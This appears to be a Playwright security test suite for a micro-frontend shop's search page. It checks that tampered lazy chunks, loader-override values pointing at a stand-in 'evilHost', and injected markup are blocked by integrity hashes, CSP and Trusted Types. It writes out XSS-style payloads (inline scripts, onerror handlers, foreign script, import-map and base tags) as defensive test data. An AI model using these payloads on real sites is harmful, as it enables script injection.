import { expect, test, type Page } from 'playwright/test';
import {
  changeDocument,
  changeHashes,
  evilHost,
  expectNotPwned,
  expectSearchPage,
  watchEvilHost,
} from '../support/faults/attack';
import { askShop, passOn } from '../support/http';

const path = '/recherche';

const open = (page: Page, origin: string, rest = ''): Promise<unknown> =>
  page.goto(origin + path + rest, { waitUntil: 'commit' });

interface LazyChunk {
  readonly id: string;
  readonly path: string;
}

/** Runs a remote's entry and captures its webpack runtime, as one of its chunks could. Returns the chunks that the document did not load: other pages, and what a page loads later. */
const loadRuntime = async (page: Page, remote: string): Promise<readonly LazyChunk[]> =>
  page.evaluate(async (name) => {
    const composition = JSON.parse(document.getElementById('composition')?.textContent ?? '{}');
    const release = composition.remotes[name];
    await (globalThis as never as { detourLoad(path: string): Promise<void> }).detourLoad(
      release.base + release.entry,
    );
    const box = (globalThis as never as Record<string, unknown[]>)[`chunks_${release.container}`];
    if (!box) throw new Error(`${name} has no chunk list.`);
    interface Runtime {
      /** File of a chunk. Its code contains the id of each chunk. */
      u(id: string): string;
    }
    let runtime: Runtime | null = null;
    box.push([['probe'], {}, (given: Runtime) => Object.assign(globalThis, { runtime: (runtime = given) })]);
    const { u: fileOf } = runtime as unknown as Runtime;
    const ids = [...String(fileOf).matchAll(/[{,]"?(\w+)"?:"/g)].map(([, id = '']) => id);
    const inDocument = [...document.scripts].map(({ src }) => src && new URL(src).pathname);
    return [...new Set(ids)]
      .map((id) => ({ id, path: release.base + fileOf(id) }))
      .filter(({ path }) => /\.\w{8}\.js$/.test(path) && !inDocument.includes(path));
  }, remote);

/** Result of the runtime's own `import()` of a chunk. */
const importChunk = (page: Page, id: string): Promise<string> =>
  page.evaluate(
    (chunk) =>
      (globalThis as never as { runtime: { e(id: string): Promise<unknown> } }).runtime
        .e(chunk)
        .then(() => 'loaded')
        .catch((error: Error) => error.name),
    id,
  );

const remotes = [
  'remote-search',
  'remote-product',
  'remote-gifting',
  'remote-boxes',
  'remote-activities',
  'remote-account',
] as const;

/** The remote of the opened page. Its chunks load before a test can change them: `tamper-scripts.spec.ts` changes them on their way. */
const shown: (typeof remotes)[number] = 'remote-search';

/** The three attacks on lazy chunks rotate over the remotes. The proof tries each on every remote that the page does not show. */
const isTried = (remote: (typeof remotes)[number], attempt: number): boolean =>
  remotes.indexOf(remote) % 3 === attempt || (process.env['PROOF'] !== undefined && remote !== shown);

for (const remote of remotes) {
  test.describe(`lazy chunks of ${remote}`, () => {
    if (isTried(remote, 0))
      test('load through their webpack runtime with the right hash', async ({ page, baseURL }) => {
        await open(page, baseURL ?? '');
        await expectSearchPage(page);
        const chunks = await loadRuntime(page, remote);
        expect(chunks.length).toBeGreaterThan(0);
        for (const { id } of chunks) expect(await importChunk(page, id)).toBe('loaded');
        // A chunk that another one contains needs no script. Every existing script was checked.
        const scripts = await page.evaluate(
          (base) =>
            [...document.scripts]
              .map(({ src, integrity, crossOrigin }) => ({
                path: src && new URL(src).pathname,
                integrity,
                crossOrigin,
              }))
              .filter(({ path: address }) => address.startsWith(base)),
          `/_r/${remote}/`,
        );
        expect(scripts.some(({ path: address }) => chunks.some((chunk) => chunk.path === address))).toBe(
          true,
        );
        for (const { integrity, crossOrigin } of scripts)
          expect([integrity.slice(0, 7), crossOrigin]).toEqual(['sha384-', 'anonymous']);
      });

    if (isTried(remote, 1))
      test('an attack by a changed lazy chunk is stopped, for each chunk', async ({ page, baseURL }) => {
        test.setTimeout(120_000);
        await open(page, baseURL ?? '');
        await expectSearchPage(page);
        const chunks = await loadRuntime(page, remote);
        const loaded = await page.evaluate(() =>
          [...document.scripts].map(({ src }) => src && new URL(src).pathname),
        );
        const fresh = chunks.filter(({ path: address }) => !loaded.includes(address));
        expect(fresh.length).toBeGreaterThan(0);
        for (const { id, path: address } of fresh) {
          await page.route(
            (url) => url.pathname === address,
            async (route) => {
              const { body } = await passOn(route);
              await route.fulfill({
                status: 200,
                contentType: 'text/javascript',
                body: `globalThis.pwned=true;${body}`,
              });
            },
          );
          expect(await importChunk(page, id)).toBe('ChunkLoadError');
        }
        await expectNotPwned(page);
      });

    if (isTried(remote, 2))
      test('an attack by a removed hash of its table is stopped: no script of it is ever requested', async ({
        page,
        baseURL,
      }) => {
        const base = new RegExp(`^/_r/${remote}/`);
        const tables: string[] = [];
        const withoutTable = changeHashes(
          (hashes) => {
            for (const file of Object.keys(hashes)) {
              if (!base.test(file)) continue;
              tables.push(file);
              delete hashes[file];
            }
          },
          { policyToo: true },
        );
        await changeDocument(page, path, withoutTable);
        const asked: string[] = [];
        page.on('request', (request) => asked.push(new URL(request.url()).pathname));
        await open(page, baseURL ?? '');
        await expectSearchPage(page);
        expect(tables.map((file) => file.replace(/.*\//, ''))).toEqual(['release.js']);
        const reason = await page.evaluate(async (table) => {
          const { detourLoad } = globalThis as never as { detourLoad(file: string): Promise<void> };
          const entry = table.replace('release.js', 'entry.js');
          return detourLoad(entry).then(
            () => 'loaded',
            (error: Error) => error.message,
          );
        }, tables[0] ?? '');
        expect(reason).toContain('has no hash');
        expect(asked.filter((address) => base.test(address))).toEqual([]);
      });
  });
}

/** All ways in which micro-frontend loaders have let visitors select other code. */
const overrides = {
  'import-map-override:remote-search': `${evilHost}/entry.js`,
  'import-map-overrides': JSON.stringify({ imports: { 'remote-search': `${evilHost}/entry.js` } }),
  'remote-search': `${evilHost}/entry.js`,
  'module-federation': JSON.stringify({ 'remote-search': `${evilHost}/entry.js` }),
  __MF_DEVTOOLS_MODULE_INFO__: JSON.stringify({ overrides: { 'remote-search': `${evilHost}/entry.js` } }),
  composition: JSON.stringify({ remotes: { 'remote-search': { base: `${evilHost}/` } } }),
  FEDERATION_DEBUG: 'true',
  preview: 'remote-search@6.6.6',
  arm: '3',
} as const;

test.describe('an override', () => {
  const versionOf = (page: Page): Promise<string | null> =>
    page.locator('#slot').getAttribute('data-remote-version');

  const expectUnmoved = async (page: Page, origin: string, asked: readonly string[]): Promise<void> => {
    await expectSearchPage(page);
    await expectNotPwned(page);
    expect(asked).toEqual([]);
    const { body } = await askShop(origin + path);
    expect(body).toContain(`data-remote-version="${(await versionOf(page)) ?? 'none'}"`);
    const hosts = await page.evaluate(() =>
      [...document.scripts].filter(({ src }) => src).map(({ src }) => new URL(src).host),
    );
    expect([...new Set(hosts)]).toEqual([new URL(origin).host]);
  };

  test('has no effect by URL query: the attack is stopped', async ({ page, baseURL }) => {
    const asked = await watchEvilHost(page);
    const query = new URLSearchParams({ ...overrides, 'import-map-overrides-url': `${evilHost}/map.json` });
    await open(page, baseURL ?? '', `?${query.toString()}`);
    await expectUnmoved(page, baseURL ?? '', asked);
  });

  test('has no effect by URL hash: the attack is stopped', async ({ page, baseURL }) => {
    const asked = await watchEvilHost(page);
    await open(page, baseURL ?? '', `#${new URLSearchParams(overrides).toString()}`);
    await expectUnmoved(page, baseURL ?? '', asked);
  });

  test('has no effect by cookie: the attack is stopped', async ({ page, baseURL, context }) => {
    const asked = await watchEvilHost(page);
    const cookies = Object.entries(overrides).filter(([name]) => /^[\w-]+$/.test(name));
    await context.addCookies(
      cookies.map(([name, value]) => ({ name, value: encodeURIComponent(value), url: baseURL ?? '' })),
    );
    await open(page, baseURL ?? '');
    await expectUnmoved(page, baseURL ?? '', asked);
    // The server deletes an invalid cookie.
    const left = (await context.cookies()).map(({ name }) => name);
    expect(left).not.toContain('preview');
    expect(left).not.toContain('arm');
  });

  for (const storage of ['localStorage', 'sessionStorage'] as const) {
    test(`by ${storage} has no effect: the attack is stopped`, async ({ page, baseURL }) => {
      const asked = await watchEvilHost(page);
      await page.addInitScript(
        ([kind, items]) => {
          for (const [name, value] of Object.entries(items)) globalThis[kind].setItem(name, value);
        },
        [storage, overrides] as const,
      );
      await open(page, baseURL ?? '');
      await expectUnmoved(page, baseURL ?? '', asked);
    });
  }
});

test.describe('injected markup', () => {
  const inject = (page: Page, markup: string): Promise<void> =>
    changeDocument(page, path, ({ html }) => ({
      html: html.replace('<div id="frame-overlay">', `${markup}<div id="frame-overlay">`),
    }));

  const attacks: Readonly<Record<string, string>> = {
    'an inline script': '<script>globalThis.pwned=true</script>',
    'an event handler': '<img src="/nothing.png" onerror="globalThis.pwned=true">',
    'a script of a foreign host': `<script src="${evilHost}/x.js"></script>`,
    'a module of a foreign host': `<script type="module" src="${evilHost}/x.js"></script>`,
    'an import map': `<script type="importmap">{"imports":{"remote-search":"${evilHost}/x.js"}}</script>`,
    'a base address': `<base href="${evilHost}/">`,
    'a frame': `<iframe src="${evilHost}/x.html"></iframe>`,
    'an object': `<object data="${evilHost}/x.swf"></object>`,
    'a style sheet of a foreign host': `<link rel="stylesheet" href="${evilHost}/x.css">`,
  };
  /** All of them in one page, each alone in the proof. The base URL changes the requests of the others. */
  const together = ({ PROOF: isProof, attacks: all }: { PROOF: boolean; attacks: typeof attacks }) => {
    if (isProof) return all;
    const { 'a base address': base = '', ...rest } = all;
    return { 'a base address': base, 'any other markup': Object.values(rest).join('') };
  };
  const tried = together({ PROOF: process.env['PROOF'] !== undefined, attacks });
  for (const [name, markup] of Object.entries(tried)) {
    test(`has no effect as ${name}: the attack is stopped by the CSP`, async ({ page, baseURL }) => {
      const asked = await watchEvilHost(page);
      await inject(page, markup);
      await open(page, baseURL ?? '');
      await expectSearchPage(page);
      await expectNotPwned(page);
      expect(asked).toEqual([]);
    });
  }

  test('cannot become a script later: Trusted Types stop the attack', async ({ page, baseURL }) => {
    const asked = await watchEvilHost(page);
    await open(page, baseURL ?? '');
    await expectSearchPage(page);
    // In its own task, because code evaluated by a debugger may evaluate text despite the CSP.
    const tried = await page.evaluate(async (evil) => {
      await new Promise((resolve) => setTimeout(resolve, 0));
      const attempt = (work: () => void): string => {
        try {
          work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const script = document.createElement('script');
      return [
        attempt(() => void (document.body.innerHTML += '<img src=x onerror="globalThis.pwned=true">')),
        attempt(() => void (script.src = `${evil}/x.js`)),
        attempt(() => void (script.text = 'globalThis.pwned=true')),
        // oxlint-disable-next-line no-new-func -- this is what the attack tries
        attempt(() => void new Function('globalThis.pwned=true')()),
        attempt(
          () =>
            void (
              globalThis as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }
            ).trustedTypes.createPolicy('mine', {}),
        ),
      ];
    }, evilHost);
    expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError', 'TypeError']);
    await expectNotPwned(page);
    expect(asked).toEqual([]);
  });
});
